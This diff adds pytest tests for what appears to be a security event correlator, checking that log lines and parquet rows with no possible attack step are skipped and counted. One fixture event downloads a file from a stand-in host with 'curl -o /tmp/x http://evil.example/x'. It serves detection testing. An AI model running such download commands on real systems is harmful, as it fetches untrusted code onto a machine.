@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import random
+import re
 from collections.abc import Callable
 from datetime import timedelta
 from pathlib import Path
@@ -480,3 +481,31 @@ def test_scenarios_of_the_corpus() -> None:
         found[id] = {each.verdict for each in final([*told, *correlator.flush()])}
 
     assert {**expected, **OTHERWISE} == found
+
+
+def test_lines_that_can_be_no_step_are_skipped_and_counted(run: Run) -> None:
+    other = event(5, f"ls {'x' * 900}")
+    shell = event(6, "bash -c date")
+    many = tuple([other] * 1200)
+    code, out, err = run(events=(CHAIN[0], *many, shell, CHAIN[1]))
+
+    assert 1 == code
+    assert ["1", "1203"] == re.findall(r"events\.jsonl:(\d+)$", out, re.MULTILINE)
+    assert "2 steps, 1 incident" in err
+    assert "lines without anything that may be a step" in err
+
+
+def test_rows_that_can_be_no_step_are_skipped_and_counted(
+    capfd: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    pa = pytest.importorskip("pyarrow", reason="pip install numpy pyarrow")
+    parquet = pytest.importorskip("pyarrow.parquet", reason="pip install numpy pyarrow")
+    fetch = event(3, "curl -o /tmp/x http://evil.example/x")
+    rows = [CHAIN[0], *[event(5, "ls")] * 600, fetch, CHAIN[1]]
+    parquet.write_table(pa.Table.from_pylist(rows), tmp_path / "rows.parquet")
+    code = main(["correlate", str(tmp_path / "rows.parquet")])
+    err = capfd.readouterr().err
+
+    assert 1 == code
+    assert "258 events = 258 read + 0 rejected; 3 steps" in err
+    assert "345 lines without anything that may be a step" in err
